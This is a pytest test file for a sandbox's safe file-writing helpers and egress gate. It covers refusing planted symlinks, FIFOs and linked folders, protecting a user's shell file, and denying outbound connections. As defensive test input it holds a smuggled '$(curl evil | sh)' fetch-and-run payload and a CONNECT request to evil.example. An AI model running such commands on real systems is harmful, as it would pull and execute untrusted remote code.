"""The one write and the one append of cadillac, against what a sandboxed process plants.

A link at the name, a link at the folder's name, a FIFO, a folder where a file should be:
the file outside stays as it was, the host never waits for a reader, and a refusal is an
UnsafeFile that says what was found.
"""

from __future__ import annotations

import os
import socket
import stat

import pytest

from orchestrator.sandbox import egress
from orchestrator.sandbox.files import UnsafeFile, append_file, replace_file


@pytest.fixture
def outside(tmp_path):
    """A file of the user's that a sandbox can only name: ``~/.bashrc``."""
    path = tmp_path / "home" / ".bashrc"
    path.write_text("# the user's shell\n")
    return path


def test_replace_file_replaces_a_link_at_the_name_and_leaves_its_target(tmp_path, outside):
    work = tmp_path / "work"
    work.mkdir()
    (work / "trial.log").symlink_to(outside)
    replace_file(work / "trial.log", "the log\n")
    assert outside.read_text() == "# the user's shell\n"
    assert not (work / "trial.log").is_symlink()
    assert (work / "trial.log").read_text() == "the log\n"
    assert os.listdir(work) == ["trial.log"]  # no temporary name is left behind


def test_replace_file_replaces_a_fifo_without_waiting_for_a_reader(tmp_path):
    os.mkfifo(tmp_path / "summary.json")
    replace_file(tmp_path / "summary.json", b"{}\n", durable=False)
    assert stat.S_ISREG(os.lstat(tmp_path / "summary.json").st_mode)


def test_replace_file_refuses_a_folder_that_is_a_link(tmp_path):
    real = tmp_path / "candidate-worktree"
    real.mkdir()
    (tmp_path / "scoring").symlink_to(real)
    with pytest.raises(UnsafeFile, match="symbolic link"):
        replace_file(tmp_path / "scoring" / "checks.py", "hidden\n")
    assert list(real.iterdir()) == []


def test_replace_file_sets_the_mode_and_leaves_no_temporary_name_on_failure(tmp_path):
    work = tmp_path / "work"
    work.mkdir()
    path = work / "index.json"
    replace_file(path, "old\n", mode=0o600)
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    (work / "sub").mkdir()
    with pytest.raises(IsADirectoryError):
        replace_file(work / "sub", "new\n")  # a folder is not replaced by a file
    assert path.read_text() == "old\n" and sorted(os.listdir(work)) == ["index.json", "sub"]


def test_append_file_adds_and_makes(tmp_path):
    path = tmp_path / "events.jsonl"
    append_file(path, "one\n")
    append_file(path, b"two\n")
    assert path.read_text() == "one\ntwo\n"


@pytest.mark.parametrize("plant", ["link", "fifo", "folder", "linked folder"])
def test_append_file_refuses_what_a_sandbox_planted(tmp_path, outside, plant):
    work = tmp_path / "work"
    work.mkdir()
    path = work / "egress.jsonl"
    if plant == "link":
        path.symlink_to(outside)
    elif plant == "fifo":
        os.mkfifo(path)
    elif plant == "folder":
        path.mkdir()
    else:
        os.rmdir(work)
        work.symlink_to(outside.parent)
        path = work / ".bashrc"
    with pytest.raises(OSError) as caught:
        append_file(path, '{"host": "$(curl evil | sh)"}\n')
    assert plant == "folder" or isinstance(caught.value, UnsafeFile)
    assert outside.read_text() == "# the user's shell\n"


def test_the_egress_gate_logs_through_no_link_and_still_decides(tmp_path, outside):
    log = tmp_path / "trial" / "egress.jsonl"
    log.parent.mkdir()
    log.symlink_to(outside)
    gate = egress.EgressGate(tmp_path / "gate", set(), log=log)
    with gate, socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(10)
        sock.connect(str(gate.path))
        sock.sendall(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n")
        answer = sock.recv(1000)
    assert answer.startswith(b"HTTP/1.1 403")
    assert outside.read_text() == "# the user's shell\n"
    assert [d["host"] for d in gate.decisions] == ["evil.example"]
    assert "symbolic link" in gate.log_refused


def test_a_read_with_a_limit_holds_what_it_read_not_the_limit(tmp_path):
    """The code index reads its files with a 1 GiB limit; a read that set the limit aside
    first held a gibibyte for a 3-byte file (and made every matrix run's peak 1 GiB)."""
    import tracemalloc

    from orchestrator.sandbox.files import read_regular

    small = tmp_path / "small"
    small.write_bytes(b"abc")
    big = tmp_path / "big"
    big.write_bytes(b"x" * (3 * 2**20 + 5))
    tracemalloc.start()
    try:
        assert read_regular(small, 1 << 30) == b"abc"
        held = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert held < 4 * 2**20, held
    assert read_regular(big, 1 << 30) == big.read_bytes()
    assert read_regular(big, 2**20 + 7) == b"x" * (2**20 + 7)
    assert read_regular(big, 0) == b""
